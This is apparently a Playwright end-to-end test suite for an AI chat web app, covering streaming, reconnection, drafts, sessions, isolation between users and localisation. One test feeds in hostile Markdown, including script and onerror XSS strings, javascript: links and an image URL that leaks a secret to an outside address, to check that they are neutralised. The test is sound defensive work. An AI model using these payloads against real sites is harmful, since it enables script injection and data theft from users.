import { ask, enter, expect, PASSWORD, test, watch } from './steward';

const LONG = Array.from({ length: 120 }, (_, i) => `word${i}`).join(' ') + ' end.';

test('a person registers, asks, and reads the whole answer', async ({ page, steward }) => {
  const faults = await watch(page);
  steward.model.answer = 'The sky is **blue** because of `Rayleigh`.\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |';
  await enter(page, 'Ann');
  await ask(page, 'Why is the sky blue?');
  await expect(page).toHaveURL(/\/c\//);
  await expect(page.locator('.answer strong')).toHaveText('blue');
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible();
  await expect(page.locator('.code code')).toHaveText('let a = 1;');
  await expect(page.getByRole('cell', { name: '2' })).toBeVisible();
  await page.getByRole('button', { name: 'Why this answer?' }).click();
  await expect(page.getByRole('dialog')).toContainText('test/mock');
  expect(faults).toEqual([]);
});

test('an answer goes on by itself in the open page after the server was killed', async ({ page, steward }) => {
  const faults = await watch(page);
  steward.model.answer = LONG;
  steward.model.pace = 60;
  await enter(page, 'Ben');
  await ask(page, 'Tell me a long story.');
  await expect(page.locator('.answer')).toContainText('word10');
  await steward.kill();
  await expect(page.getByText('Interrupted, continuing')).toBeVisible();
  steward.model.pace = 5;
  await steward.start();
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible({ timeout: 120_000 });
  await expect(page.locator('.answer .markdown')).toHaveText(LONG);
  expect(faults).toEqual([]);
});

test('what is sent while the server is away goes out by itself, once', async ({ page, steward }) => {
  steward.model.answer = 'Here.';
  steward.model.pace = 5;
  await enter(page, 'Cleo');
  await ask(page, 'First?');
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible();
  await steward.kill();
  await ask(page, 'Are you there?');
  await expect(page.getByText('Waits to be sent')).toBeVisible();
  await page.reload().catch(() => undefined);
  await steward.start();
  await page.goto('/');
  await page.getByRole('link', { name: 'First?' }).or(page.getByRole('link', { name: 'A title' })).first().click();
  await expect(page.locator('.question-text')).toHaveText(['First?', 'Are you there?']);
  await expect(page.locator('.answer .markdown')).toHaveText(['Here.', 'Here.'], { timeout: 120_000 });
});

test('an answer can be stopped, and a draft survives a reload', async ({ page, steward }) => {
  steward.model.answer = LONG;
  steward.model.pace = 100;
  await enter(page, 'Dora');
  await ask(page, 'Go on and on.');
  await expect(page.locator('.answer')).toContainText('word3');
  await page.getByRole('button', { name: 'Stop the answer' }).click();
  await expect(page.getByText('You stopped this answer.')).toBeVisible();
  await page.getByRole('textbox', { name: 'Message' }).fill('half a thou');
  await page.reload();
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('half a thou');
});

test('a session that ended is renewed in place, and nothing typed is lost', async ({ page, context, steward }) => {
  steward.model.answer = 'Fine.';
  steward.model.pace = 5;
  await enter(page, 'Emil');
  await page.getByRole('textbox', { name: 'Message' }).fill('How are you?');
  await context.clearCookies({ name: /access|refresh/ });
  await page.keyboard.press('Enter');
  const dialog = page.getByRole('dialog', { name: 'Sign in again' });
  await expect(dialog).toBeVisible();
  await dialog.getByLabel('Password').fill(PASSWORD);
  await dialog.getByRole('button', { name: 'Sign in' }).click();
  await expect(dialog).toBeHidden();
  await expect(page.locator('.answer .markdown')).toHaveText('Fine.');
});

test('two people never see what is the other one’s', async ({ browser, steward }) => {
  steward.model.answer = 'A secret.';
  const [one, two] = await Promise.all([browser.newContext({ baseURL: steward.url }), browser.newContext({ baseURL: steward.url })]);
  const first = await one.newPage();
  const second = await two.newPage();
  await enter(first, 'Faye');
  await enter(second, 'Gus');
  await ask(first, 'My secret question');
  await expect(first.locator('.answer .markdown')).toHaveText('A secret.');
  await second.goto(new URL(first.url()).pathname);
  await expect(second.getByRole('alert')).toBeVisible();
  await expect(second.getByText('secret')).toHaveCount(0);
  await one.close();
  await two.close();
});

test('hostile Markdown does nothing', async ({ page, steward }) => {
  const faults = await watch(page);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  steward.model.answer = [
    '<script>document.title="owned"</script><img src=x onerror="document.title=1">',
    '[click](javascript:alert(1)) [data](data:text/html,x) ![leak](http://127.0.0.1:9/leak?q=secret)',
    '<a href="x" onclick="alert(1)">a</a> \u202Etxet sdrawkcab',
    '```html\n<script>alert(1)</script>\nunclosed',
  ].join('\n\n');
  await enter(page, 'Hank');
  await ask(page, 'Attack me');
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible();
  await expect(page.getByText('Picture: leak')).toBeVisible();
  expect(await page.title()).not.toContain('owned');
  expect(await page.locator('.answer script, .answer img, .answer [onclick]').count()).toBe(0);
  for (const href of await page.locator('.answer a').evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href))) {
    expect(href).toMatch(/^https?:/);
  }
  expect(asked.filter((url) => !url.startsWith(steward.url))).toEqual([]);
  expect(faults).toEqual([]);
});

test('what the server says of a failure is said in the language of the page', async ({ page, steward }) => {
  const faults = await watch(page);
  steward.model.refusal = 400;
  try {
    await enter(page, 'Greta');
    await ask(page, 'Say anything');
    await expect(page.getByText('The model server refused this request. Your question is kept.')).toBeVisible();
    await page.goto('/settings');
    await page.getByLabel('Language').selectOption('de');
    await expect(page.getByRole('heading', { name: 'Einstellungen' })).toBeVisible();
    await page.goBack();
    await expect(page.getByText('Der Modellserver hat diese Anfrage abgelehnt. Ihre Frage ist aufgehoben.')).toBeVisible();
    await page.getByRole('button', { name: 'Warum diese Antwort?' }).click();
    await expect(page.getByRole('dialog')).toContainText('kein Fachagent ist nötig');
  } finally {
    steward.model.refusal = undefined;
  }
  expect(faults).toEqual([]);
});
